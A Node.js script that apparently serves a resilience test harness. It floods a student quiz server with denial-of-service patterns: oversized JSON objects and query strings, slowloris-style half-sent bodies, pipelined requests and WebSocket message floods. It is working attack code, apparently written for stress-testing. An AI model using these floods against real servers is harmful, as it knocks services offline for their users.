/**
 * Floods one server until this process is killed. Runs as a separate process, so that the prober's measurements are not
 * affected: node flood.mjs KIND URL TOKEN ATTEMPT-ID QUESTION-ID
 */
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

const [kind, url, token, attemptId, questionId] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const objectOf = (keys) =>
  JSON.stringify(Object.fromEntries(Array.from({ length: keys }, (_, n) => [n.toString(36), 0])));
const MANY_KEYS = objectOf(100_000);

const floods = {
  'many keys': () => posting('/api/student/login', MANY_KEYS, 1_000),
  'some keys': () => posting('/api/student/login', objectOf(9_000), 250),
  'keys in the address': () => posting(`/api/student/register?${'&a='.repeat(4_000)}`, '{}', 100),
  'answers as an object': () => posting(submit(), `{"answers":${MANY_KEYS}}`, 1_000),
  'empty answers': () => posting(submit(), `{"answers":[${Array(330_000).fill('{}').join()}]}`, 1_000),
  'endless bodies': () => endlessBodies(300),
  'progress without end': () => Array.from({ length: 20 }, progress),
  'progress without waiting': () => [1, 2, 3, 4].forEach(progressAtOnce),
  'refused connects': () => webSocket((socket) => sendContinuously(socket, '40{"token":"junk"}')),
  'watch and unwatch': () => [1, 2, 3].forEach(() => webSocket(floodUpdates)),
};
await floods[kind]();

function submit() {
  return `/api/attempts/${attemptId}/submit`;
}

/** Sends one body after the other, each on a new connection. */
async function posting(path, body, everyMs) {
  for (;;) {
    const socket = connect(Number(port), hostname).on('error', () => {});
    socket.end(
      `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n` +
        `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
    );
    socket.resume();
    await delay(everyMs);
  }
}

/** Sends only the first half of 1 MB bodies. @param most maximum number of open connections */
function endlessBodies(most) {
  const begin = () => {
    const socket = connect(Number(port), hostname).on('error', () => {});
    socket.write(
      `POST /api/student/login HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n`,
    );
    socket.write(Buffer.alloc(500_000, ' '));
    socket.resume().once('close', () => setTimeout(begin, 20));
  };
  for (let n = 0; n < most; n += 1) begin();
}

function progress() {
  const socket = connect(Number(port), hostname).on('error', () => {});
  const call = () => socket.write(callOfProgress());
  // Responses are short and arrive in one piece
  socket.on('data', call).once('close', () => setTimeout(progress, 20));
  call();
}

/** Pipelines requests without waiting for responses. */
function progressAtOnce() {
  const socket = connect(Number(port), hostname).on('error', () => {});
  const calls = Buffer.from(callOfProgress().repeat(100));
  const pour = () => {
    while (!socket.destroyed && socket.write(calls));
  };
  socket.on('drain', pour).resume();
  socket.once('close', () => setTimeout(progressAtOnce, 20));
  pour();
}

function callOfProgress() {
  const body = JSON.stringify({ questionId, spentMs: 1 });
  return (
    `PUT /api/attempts/${attemptId}/progress HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${token}\r\n` +
    `content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`
  );
}

/** Opens a WebSocket on a raw connection, and reopens it whenever it is closed. */
function webSocket(opened) {
  const socket = connect(Number(port), hostname).on('error', () => {});
  socket.write(
    `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${hostname}\r\nconnection: Upgrade\r\n` +
      'upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  );
  socket.once('data', () => opened(socket));
  socket.once('close', () => setTimeout(() => webSocket(opened), 20));
}

/** Never reads the responses. */
function floodUpdates(socket) {
  socket.write(frame(`40${JSON.stringify({ token })}`));
  socket.once('data', () => socket.pause());
  setTimeout(() => sendContinuously(socket, '42["leaderboard:watch"]', '42["leaderboard:unwatch"]'), 500);
}

/** Sends as fast as the server reads. */
function sendContinuously(socket, ...messages) {
  const chunk = Buffer.concat(Array.from({ length: 1_000 }, (_, n) => frame(messages[n % messages.length])));
  const pour = () => {
    while (!socket.destroyed && socket.write(chunk));
  };
  socket.on('drain', pour);
  pour();
}

/** Returns a masked text frame; a zero mask leaves the text unchanged. */
function frame(text) {
  return Buffer.concat([Buffer.from([0x81, 0x80 | Buffer.byteLength(text), 0, 0, 0, 0]), Buffer.from(text)]);
}
